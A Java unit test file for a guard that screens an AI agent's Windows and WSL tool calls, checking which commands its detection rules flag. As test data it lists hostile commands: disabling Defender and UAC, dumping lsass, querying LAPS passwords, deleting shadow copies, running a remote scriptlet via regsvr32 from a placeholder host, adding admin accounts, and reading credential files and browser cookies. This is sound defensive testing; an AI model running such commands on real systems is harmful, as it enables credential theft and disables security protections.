package io.github.providergateway.guard.internal;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.github.providergateway.guard.Guard;
import io.github.providergateway.guard.GuardCall;
import io.github.providergateway.guard.GuardEnvironment;
import io.github.providergateway.guard.GuardSettings;
import io.github.providergateway.guard.GuardVerdict;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The readings behind the book's {@code windows} rules (decision 137), beyond the rules' examples:
 * the Windows side of a WSL machine read as this machine's places, code spelled as character codes,
 * the kinds' words where they hold and where they must not, and the whole guard on the Windows
 * profile and a desktop MCP server's PowerShell tool.
 */
class WindowsReadingsTest {

  private static final ObjectMapper JSON = new ObjectMapper();

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      textBlock =
          """
          /mnt/c/Users/mtorres/.aws/credentials                 | $HOME/.aws/credentials
          /mnt/c/Users/mtorres                                  | $HOME
          /mnt/d/Users/m/AppData/Roaming/x                      | $HOME/AppData/Roaming/x
          /mnt/c/Users/Public/Documents/a.txt                   | /mnt/c/Users/Public/Documents/a.txt
          /mnt/c/Users/Default/NTUSER.DAT                       | /mnt/c/Users/Default/NTUSER.DAT
          C:\\Users\\m\\.ssh\\id_rsa                            | $HOME/.ssh/id_rsa
          C:\\ProgramData\\Microsoft\\Crypto                    | /mnt/c/ProgramData/Microsoft/Crypto
          \\\\wsl.localhost\\Ubuntu-22.04\\home\\user\\.ssh\\k  | /home/user/.ssh/k
          \\\\wsl$\\Debian\\etc\\shadow                         | /etc/shadow
          //wsl.localhost/Ubuntu/home/user/.aws                 | /home/user/.aws
          $env:APPDATA\\Mozilla\\Firefox                        | $HOME/AppData/Roaming/Mozilla/Firefox
          %LOCALAPPDATA%\\Google\\Chrome                        | $HOME/AppData/Local/Google/Chrome
          $env:USERPROFILE                                      | $HOME
          X:/home/guest/cfd                                     | X:/home/guest/cfd
          /mnt/wsl/docker-desktop/x                             | /mnt/wsl/docker-desktop/x
          $env:TEMP\\x                                          | $env:TEMP\\x
          """)
  void theWindowsSideIsReadAsThisMachinesPlaces(String path, String read) {
    assertThat(HomeLayouts.windowsSide(path)).isEqualTo(read);
  }

  @Test
  void characterCodesAreSpelledOut() {
    assertThat(WindowsPredicates.charCodes("iex (-join [char[]](71,101,116,45,68,97,116,101))"))
        .isEqualTo("Get-Date");
    assertThat(WindowsPredicates.charCodes("Write-Host [char[]](1,2)")).isNull();
    assertThat(WindowsPredicates.charCodes("Get-ChildItem")).isNull();
  }

  @ParameterizedTest(name = "{0}: {1}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      textBlock =
          """
          defender-off     | Set-MpPreference -DisableRealtimeMonitoring $true               | true
          defender-off     | Set-MpPreference -DisableRealtimeMonitoring $false              | false
          defender-off     | Set-MpPreference -SignatureUpdateInterval 1                     | false
          defender-off     | config WinDefend start= disabled                                | true
          defender-off     | query WinDefend                                                 | false
          protection-off   | add HKLM\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f     | true
          protection-off   | add HKLM\\Policies\\System /v EnableLUA /t REG_DWORD /d 1 /f     | false
          protection-off   | query HKLM\\Policies\\System /v EnableLUA                         | false
          protection-off   | qe Security /c:5                                                | false
          boot-weakened    | /set testsigning on                                             | true
          boot-weakened    | /set {current} safeboot minimal                                 | true
          boot-weakened    | /enum {current}                                                 | false
          updates-off      | config wuauserv start= disabled                                 | true
          updates-off      | config wuauserv start= auto                                     | false
          admin-account    | localgroup Administrators helper /add                           | true
          admin-account    | localgroup Administrators                                       | false
          credentials-dumped | -accepteula -ma lsass.exe l.dmp                               | true
          credentials-dumped | -ma KestrelAgent.exe crash.dmp                                | false
          directory-secrets | -b DC=corp,DC=x (ms-Mcs-AdmPwd=*) cn ms-Mcs-AdmPwd             | true
          directory-secrets | -b DC=corp,DC=x (cn=LAPTOP-1) cn operatingSystem               | false
          remote-command   | /node:WS-FIN-022 process call create 'cmd /c ipconfig'          | true
          remote-command   | /node:localhost process call create 'cmd /c ipconfig'           | false
          restore-points-deleted | delete shadows /all /quiet                                | true
          restore-points-deleted | list shadows /for=C:                                      | false
          signed-binary-runs-remote | /s /n /u /i:https://x.example/a.sct scrobj.dll         | true
          signed-binary-runs-remote | /s build\\out\\Shell.dll                               | false
          profile-deleted  | rd /s /q "%USERPROFILE%\\OneDrive - Acme\\Documents"             | true
          profile-deleted  | rd /s /q out\\intunewin                                          | false
          task-or-service  | /create /tn x /tr 'pwsh -f C:\\u.ps1' /sc onlogon               | true
          task-or-service  | /query /tn x /v                                                 | false
          """)
  void eachKindHoldsOfItsWordsAndNotOfTheirNearMiss(String kind, String text, boolean holds) {
    assertThat(WindowsTexts.KINDS.get(kind).matcher(text).find()).as(text).isEqualTo(holds);
  }

  @Test
  void theWindowsProfilesSecretsAreTheHomesSecrets() throws Exception {
    assertThat(shell("cat /mnt/c/Users/mtorres/.aws/credentials")).isEqualTo("secrets.aws");
    assertThat(shell("pwsh -c 'Get-Content C:\\Users\\m\\.aws\\credentials'"))
        .as("pwsh's code is parsed, its backslashes kept")
        .isEqualTo("secrets.aws");
    assertThat(
            shell(
                "powershell.exe -Command 'Get-Content \\\\wsl.localhost\\U\\home\\user\\.ssh\\id_rsa'"))
        .as("powershell.exe's code is parsed as pwsh's (decision 140)")
        .isEqualTo("secrets.ssh");
    assertThat(shell("cmd.exe /c 'type %USERPROFILE%\\.aws\\credentials'"))
        .as("cmd.exe's code is parsed: type is cat, %USERPROFILE% the home (decision 140)")
        .isEqualTo("secrets.aws");
    assertThat(shell("cat /mnt/c/Users/Public/Documents/readme.txt")).isNull();
    assertThat(shell("cmd.exe /c 'type C:\\Users\\m\\.ssh\\id_rsa.pub'")).isNull();
  }

  @Test
  void aSecretIsFoundInQuotesAndAloneAndNotInAnotherFile() {
    Path home = Path.of("/home/user");
    assertThat(
            WindowsPaths.secretNamed(
                "Copy-Item \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cookies\" x",
                home))
        .isEqualTo("$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cookies");
    assertThat(WindowsPaths.secretNamed("type C:\\Users\\m\\.netrc", home))
        .isEqualTo("C:\\Users\\m\\.netrc");
    assertThat(WindowsPaths.secretNamed("type C:\\Users\\m\\notes.txt", home)).isNull();
    assertThat(WindowsPaths.secretNamed("Get-ChildItem Env:", home)).isNull();
  }

  @Test
  void aDesktopServersPowerShellToolIsReadAsPowerShell() throws Exception {
    assertThat(
            decide(
                "mcp__windows-mcp__Powershell-Tool",
                "{\"command\": \"Set-MpPreference -DisableRealtimeMonitoring $true\"}"))
        .isEqualTo("windows.defender-off");
    assertThat(
            decide("mcp__windows-mcp__Powershell-Tool", "{\"command\": \"Get-MpComputerStatus\"}"))
        .isNull();
  }

  @Test
  void aWslConfigsMemoryIsNoKernel() throws Exception {
    String path = "/mnt/c/Users/m/.wslconfig";
    assertThat(
            decide(
                "edit",
                "{\"path\": \""
                    + path
                    + "\", \"content\": \"[wsl2]\\nkernel=C:\\\\\\\\k\\\\\\\\bzImage\\n\"}"))
        .isEqualTo("windows.wsl-kernel");
    assertThat(
            decide("edit", "{\"path\": \"" + path + "\", \"content\": \"[wsl2]\\nmemory=8GB\\n\"}"))
        .isNull();
  }

  private static String shell(String command) throws Exception {
    return decide("shell", JSON.createObjectNode().put("command", command).toString());
  }

  /** The rule that decides the call, or null where the guard allows it. */
  private static String decide(String tool, String args) throws Exception {
    GuardEnvironment env =
        new GuardEnvironment(
            Path.of("/home/user"),
            List.of(Path.of("/tmp")),
            Path.of("/home/user/.copilot/extensions/tap"));
    Guard guard =
        Guard.create(GuardSettings.personal(JSON.readTree("{\"preset\":\"standard\"}")), env);
    JsonNode json = JSON.readTree(args);
    Path project = Path.of("/work/project");
    GuardVerdict verdict = guard.decide(new GuardCall(tool, json, project, project, null));
    return verdict.ruleId();
  }
}
